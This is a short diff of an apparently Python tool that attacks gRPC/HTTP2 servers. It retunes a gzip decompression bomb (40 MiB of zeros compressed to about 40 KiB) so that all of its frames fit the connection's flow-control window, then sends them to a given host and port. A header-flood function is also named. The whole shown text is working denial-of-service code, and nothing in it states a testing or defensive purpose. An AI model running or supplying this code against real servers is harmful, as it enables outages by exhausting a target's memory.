@@ -100,17 +100,17 @@ async def header_flood(host: str, port: int, number: int) -> int:
 
 @cache
 def packed_bomb() -> bytes:
-    """64 MiB of zeros."""
-    return gzip.compress(bytes(64 << 20))
+    """40 MiB of zeros, which fit three frames."""
+    return gzip.compress(bytes(40 << 20))
 
 
 async def gzip_bomb(host: str, port: int, number: int) -> int:
-    """A message of 64 KiB that is 64 MiB when it is unpacked."""
+    """A message of 40 KiB that is 40 MiB when it is unpacked."""
     bomb = packed_bomb()
     _, begun = greeting(("grpc-encoding", "gzip"))
     data = b"\1" + struct.pack(">I", len(bomb)) + bomb
     frames = [frame(0, 0, 1, data[start : start + 16_384]) for start in range(0, len(data), 16_384)]
-    await say(host, port, [begun, *frames[:3]], 0.2)  # the connection's window holds no more unasked
+    await say(host, port, [begun, *frames], 0.2)  # together they fit the window that nobody widens
     return 1
 
 
